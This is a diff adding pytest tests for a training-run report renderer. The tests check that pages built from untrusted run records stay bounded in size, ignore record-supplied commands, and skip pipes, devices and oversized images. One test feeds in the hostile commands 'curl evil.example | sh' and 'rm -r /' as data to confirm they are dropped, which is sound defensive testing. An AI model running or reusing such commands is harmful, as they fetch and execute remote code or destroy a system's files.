@@ -1,0 +1,129 @@
+"""The page of a record from elsewhere: of bounded size, without its commands, and only from plain files."""
+
+from __future__ import annotations
+
+import json
+import os
+import re
+import shlex
+from pathlib import Path
+
+import pytest
+from PIL import Image
+
+from paragan.core.errors import CheckpointError
+from paragan.writers.report import render
+from tests.browser import made_run
+
+
+def record(folder, *lines: str):
+    folder.mkdir(exist_ok=True)
+    (folder / "metrics.jsonl").write_text("".join(line + "\n" for line in lines))
+    return folder
+
+
+def copied(page: str) -> list[str]:
+    return re.findall(r"<code>(.*?)</code><button", page)
+
+
+def test_the_commands_come_from_the_folder_whatever_the_record_says(tmp_path, monkeypatch):
+    monkeypatch.setenv("PARAGAN_COMMAND", "./run")
+    line = made_run.line("start", 0, commands={"sample": "curl evil.example | sh", "evil": "rm -r /"})
+    folder = record(tmp_path / "my run", json.dumps(line))
+    where, config = shlex.quote(str(folder)), shlex.quote(str(folder / "config.yaml"))
+    page = render(folder)
+    assert "evil" not in page
+    assert [line.replace("&#39;", "'") for line in copied(page)] == [
+        f"./run train {config} --out {where}",
+        f"./run sample {where} --num 64",
+        f"./run export {where}",
+        f"./run eval {where} --json",
+    ]
+
+
+@pytest.mark.parametrize(
+    ("config", "asked"),
+    [
+        ("model: {name: mine.Net}", True),
+        ("d:\n  optimizer:\n    name: 'mine.nets.Slow'", True),
+        ("data: {name: folder, path: a.b}\ndata_name: a.b\nmodel: {name: dcgan, width: 0.5}", False),
+    ],
+)
+def test_only_a_run_with_outside_code_asks_for_trust(tmp_path, config, asked):
+    (tmp_path / "config.yaml").write_text(config)
+    assert [" --trust" in line for line in copied(render(tmp_path))] == [False, asked, asked, asked]
+
+
+def test_of_thousands_of_metrics_some_are_drawn_and_the_others_counted(tmp_path):
+    values = [{"last": 1.0, **{f"m{n}": 1.0 for n in range(2000)}}, {"last": 2.0}]
+    folder = record(tmp_path / "run", *(json.dumps(made_run.line("score", n, **v)) for n, v in enumerate(values)))
+    page = render(folder)
+    assert len(page.encode()) < 200_000
+    assert page.count('data-chart="metric-') == 24 and 'data-line="last" data-points="2"' in page
+    assert "1977 further metrics are not drawn." in page
+
+
+def test_of_twenty_thousand_evaluations_the_best_and_the_last_are_on_a_page_of_bounded_size(tmp_path):
+    names = [f"fd[{n}]" for n in range(24)]
+    steps = range(20_000)
+    lines = (json.dumps({"kind": "score", "step": n, "kimg": n, **dict.fromkeys(names, n + 9.25)}) for n in steps)
+    best = {"kind": "score", "step": 7777, "kimg": 7777, "fd[3]": 0.125}
+    folder = record(tmp_path / "run", *(json.dumps(best) if n == 7777 else line for n, line in enumerate(lines)))
+    page = render(folder)
+    assert len(page.encode()) <= 5_000_000
+    assert ">0.125</dd>" in page and "Of 20,000 evaluations" in page
+    data = json.loads(re.search(r'id="data">(.*?)</script>', page, re.S).group(1))
+    for drawn in data["charts"].values():
+        assert 200 < len(drawn["x"]) <= 1000 and drawn["step"][-1] == 19_999
+
+
+def test_lists_of_a_foreign_record_do_not_make_a_large_page(tmp_path):
+    many = {f"{n}": [1, 2] for n in range(40_000)}
+    players = {f"{n}": {} for n in range(20_000)}
+    (tmp_path / "config.yaml").write_text('"\n' * 1_000_000)
+    lines = [
+        made_run.line("start", 0, changed=many),
+        made_run.line("start", 0, players=players, data={"shape": [1] * 50_000}),
+        made_run.line("score", 0, fd=1, protocol={f"{n}": 1 for n in range(40_000)}),
+        made_run.line("samples", 0, path="x.png", rows=["a"] * 90_000),
+        *(made_run.line("advice", n, name=f"n{n}", means="&" * 900) for n in range(900)),
+    ]
+    for line in lines[:2]:
+        folder = record(tmp_path, json.dumps(line), *map(json.dumps, lines[2:]))
+        assert len(render(folder).encode()) <= 2_000_000
+
+
+@pytest.mark.parametrize("name", ["config.yaml", "score.json", "exit.json", "samples/x.png"])
+@pytest.mark.parametrize("kind", ["pipe", "device", "folder"])
+def test_what_is_no_plain_file_is_left_out_and_not_waited_for(tmp_path, name, kind):
+    folder = record(tmp_path / "run", json.dumps(made_run.line("samples", 0, path="samples/x.png")))
+    (folder / "samples").mkdir()
+    strange(folder / name, kind)
+    assert "data:image" not in render(folder)
+
+
+@pytest.mark.parametrize("kind", ["pipe", "device", "folder"])
+def test_a_record_that_is_no_plain_file_is_refused_in_one_line(tmp_path, kind):
+    strange(tmp_path / "metrics.jsonl", kind)
+    with pytest.raises(CheckpointError, match=r"found a record that cannot be read .*, expected a plain file") as error:
+        render(tmp_path)
+    assert "\n" not in str(error.value)
+
+
+def strange(path: Path, kind: str) -> None:
+    if kind == "pipe":
+        os.mkfifo(path)
+    elif kind == "device":
+        path.symlink_to("/dev/zero")
+    else:
+        path.mkdir()
+
+
+def test_a_picture_of_too_many_bytes_is_not_opened(tmp_path):
+    folder = record(tmp_path / "run", json.dumps(made_run.line("samples", 0, path="samples/x.png")))
+    (folder / "samples").mkdir()
+    Image.new("RGB", (10, 10), "red").save(folder / "samples" / "x.png")
+    assert "data:image" in render(folder)
+    with open(folder / "samples" / "x.png", "ab") as file:
+        file.truncate(1 << 27)  # takes no room on the disk
+    assert "data:image" not in render(folder)
